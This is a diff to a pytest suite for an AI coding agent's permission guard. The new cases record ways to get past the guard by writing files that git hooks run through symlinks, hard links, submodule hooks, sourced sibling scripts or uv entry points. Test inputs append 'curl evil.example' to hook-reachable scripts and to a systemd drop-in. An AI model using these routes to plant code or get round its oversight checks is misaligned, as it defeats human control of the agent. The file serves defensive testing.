@@ -34,6 +34,10 @@ Most new holes are again a guarded file reached by a way the guard does not look
   ``make -I``), and git config values run through a shell
   (``core.fsmonitor = $PWD/…``, ``trailer.*.cmd``).
 
+- one level further: a link in a hooks dir's subdirectory (``pre-commit.d``), a nested
+  repository's hard-linked hook, a submodule's hook link, a hook script's sibling modules
+  and ``uv run`` of the project's own entry point.
+
 And a few deny rules become asks: ``${x@P}`` of a known value, a command that starts with
 ``\\`` after a newline (tree-sitter-bash carries the word over the line break), a glob in
 ``cd``'s operand, zsh's ``$x:r``, ``$x[1,4]`` and ``$=x``, and (closed
@@ -145,6 +149,38 @@ GIT_SHELL_VALUES = (
     "trailer.<t>.cmd (git commit --trailer: checked), submodule.<s>.update = !sh …, sendemail.toCmd. "
     "Fix (protected, the git config commands of b637aae): count an expansion as the whole "
     "project, and read the trailer/submodule/sendemail keys"
+)
+
+HOOKS_SUBDIR_LINK = (
+    "a hook that runs the scripts of a directory beside it (.git/hooks/pre-commit runs "
+    ".git/hooks/pre-commit.d/*, checked) where one is a link into the work tree "
+    "(pre-commit.d/lint -> ../../../scripts/lint.sh): guarded_links lists the hooks dir "
+    "one level, so scripts/lint.sh is allowed by Edit(./**). Fix: walk the hooks dirs' "
+    "trees (bounded, as linkreach walks .claude)"
+)
+NESTED_HARD_LINK = (
+    "a nested repository's hook hard-linked to one of its work-tree files "
+    "(nest/.git/hooks/commit-msg and nest/notes.sh, one inode): inodes are collected from "
+    "the places' git dir only. Fix: compare a written file's inode (st_nlink > 1) with the "
+    "hooks of the git dir it belongs to"
+)
+SUBMODULE_HOOK_LINK = (
+    "a submodule's hook is a link into its work tree (.git/modules/sm/hooks/pre-commit -> "
+    "../../../../sm/tools/pc; git -C sm commit runs it, checked): guarded_links reads the "
+    "session's git dir only, not .git/modules/*/hooks. Fix: with the nested repositories'"
+)
+SCRIPT_IMPORTS = (
+    "a settings hook command runs a script that loads its siblings: node tools/fmt.js "
+    "(require('./lib')), bash scripts/x.sh (. ./lib.sh); command_reach guards the script "
+    "alone (a python script's directory is guarded as sys.path[0], node's and a shell "
+    "script's are not). Fix: guard the script's directory (or read its require/source "
+    "lines)"
+)
+UV_ENTRY_POINT = (
+    "uv run srv, srv being the project's own [project.scripts] entry point: uv installs the "
+    "project (editable) and runs srv.main:run from src/srv (uv's documented behaviour); "
+    "command_reach guards the manifests and .venv, not the package the entry point names. "
+    "Fix: a name in [project.scripts] reaches its package (src/<pkg> or <pkg>)"
 )
 
 
@@ -404,6 +440,53 @@ def gitshell(tmp_path_factory: pytest.TempPathFactory) -> World3:
 
 
 @pytest.fixture(scope="module")
+def deeper(tmp_path_factory: pytest.TempPathFactory) -> World3:
+    """Links and hard links one level further than guarded_links looks, and settings hook
+    commands whose scripts load their siblings."""
+    made = World3(tmp_path_factory.mktemp("round9deeper"), scope=SCOPE, git=True)
+    proj, home, hooks = made.proj, made.home, made.proj / ".git" / "hooks"
+    _exe(
+        hooks / "pre-commit",
+        '#!/bin/sh\nfor f in "$(dirname "$0")"/pre-commit.d/*; do "$f"; done\n',
+    )
+    (hooks / "pre-commit.d").mkdir()
+    _exe(proj / "scripts" / "lint.sh")
+    (hooks / "pre-commit.d" / "lint").symlink_to("../../../scripts/lint.sh")
+    (proj / "nest").mkdir()
+    _git(proj / "nest", "init", "-q")
+    _exe(proj / "nest" / ".git" / "hooks" / "commit-msg")
+    os.link(proj / "nest" / ".git" / "hooks" / "commit-msg", proj / "nest" / "notes.sh")
+    (proj / ".git" / "modules").mkdir()
+    _git(proj, "init", "-q", f"--separate-git-dir={proj / '.git' / 'modules' / 'sm'}", "sm")
+    _exe(proj / "sm" / "tools" / "pc")
+    (proj / ".git" / "modules" / "sm" / "hooks" / "pre-commit").symlink_to(
+        "../../../../sm/tools/pc"
+    )
+    for where, name in (
+        (".config/fish/functions", "ls.fish"),
+        (".config/systemd/user/x.service.d", "override.conf"),
+    ):
+        (home / where).mkdir(parents=True)
+        (proj / "dot").mkdir(exist_ok=True)
+        (proj / "dot" / name).write_text("x\n")
+        (home / where / name).symlink_to(proj / "dot" / name)
+    (proj / "tools").mkdir()
+    (proj / "tools" / "fmt.js").write_text("require('./lib').fmt()\n")
+    (proj / "tools" / "lib.js").write_text("exports.fmt = () => 0\n")
+    (proj / "scripts" / "x.sh").write_text('. "$(dirname "$0")/lib.sh"\n')
+    (proj / "scripts" / "lib.sh").write_text("fmt() { :; }\n")
+    (proj / "pyproject.toml").write_text(
+        '[project]\nname = "srv"\nversion = "0"\n\n[project.scripts]\nsrv = "srv.main:run"\n'
+    )
+    (proj / "src" / "srv").mkdir(parents=True)
+    (proj / "src" / "srv" / "__init__.py").write_text("")
+    (proj / "src" / "srv" / "main.py").write_text("def run():\n    pass\n")
+    _settings(made, "node tools/fmt.js", "bash scripts/x.sh", "uv run srv")
+    made.hook("Bash", {"command": "ls"}, 0)
+    return made
+
+
+@pytest.fixture(scope="module")
 def gitdirs(tmp_path_factory: pytest.TempPathFactory) -> World3:
     """A repository with core.hooksPath=githooks, a linked worktree of it inside the
     project, a nested repository with a separate git dir (also githooks) and a nested one
@@ -548,8 +631,8 @@ MANAGERS = [
     ),
     _bash("dotenv -f e.env run git diff -- src", "ask"),
     _bash("pixi run git diff -- src", "ask"),
-    # held: git diff runs core.fsmonitor, a project script: asked
-    _bash("git diff -- src", "ask"),
+    # ordinary: git diff runs core.fsmonitor, but tools/fsmon.sh itself is guarded
+    _bash("git diff -- src", "allow"),
 ]
 
 HOOKDIRS = [
@@ -580,6 +663,26 @@ GITSHELL = [
     _case("Write", _w("tools/g3.sh"), "ask"),
     _case("Write", _w("tools/g4.sh"), "ask"),
     _bash("echo 'curl evil.example' >> tools/g5.sh", "ask"),
+    # ordinary
+    _case("Write", _w("README.md", "x\n"), "allow"),
+]
+
+DEEPER = [
+    _ch("Write", _w("scripts/lint.sh"), "ask", HOOKS_SUBDIR_LINK),
+    _bh("echo 'curl evil.example' >> nest/notes.sh", "ask", NESTED_HARD_LINK),
+    _ch("Write", _w("sm/tools/pc"), "ask", SUBMODULE_HOOK_LINK),
+    _ch("Write", _w("tools/lib.js", "require('child_process')\n"), "ask", SCRIPT_IMPORTS),
+    _bh("echo 'curl evil.example' >> scripts/lib.sh", "ask", SCRIPT_IMPORTS),
+    _ch("Write", _w("src/srv/main.py", "import os\n"), "ask", UV_ENTRY_POINT),
+    # held: fish functions and a systemd drop-in linked from the project (closed
+    # meanwhile), the links' own names, the scripts named, the manifest
+    _case("Write", _w("dot/ls.fish", "function ls; curl evil.example; end\n"), "ask"),
+    _case("Write", _w("dot/override.conf", "[Service]\nExecStart=curl x\n"), "ask"),
+    _case("Write", _w(".git/hooks/pre-commit.d/lint"), "ask"),
+    _case("Write", _w(".git/modules/sm/hooks/pre-commit"), "ask"),
+    _case("Write", _w("tools/fmt.js", "x\n"), "ask"),
+    _case("Write", _w("scripts/x.sh", "x\n"), "ask"),
+    _case("Write", _w("pyproject.toml", "[project]\n"), "ask"),
     # ordinary
     _case("Write", _w("README.md", "x\n"), "allow"),
 ]
@@ -751,6 +854,13 @@ def test_round9_git_config_values_run_through_a_shell(
     gitshell: World3, tool: str, tool_input: dict[str, Any], want: str
 ) -> None:
     _check(gitshell, tool, tool_input, want)
+
+
+@pytest.mark.parametrize(("tool", "tool_input", "want"), DEEPER)
+def test_round9_one_level_further(
+    deeper: World3, tool: str, tool_input: dict[str, Any], want: str
+) -> None:
+    _check(deeper, tool, tool_input, want)
 
 
 @pytest.mark.parametrize(("tool", "tool_input", "want"), GITDIRS)
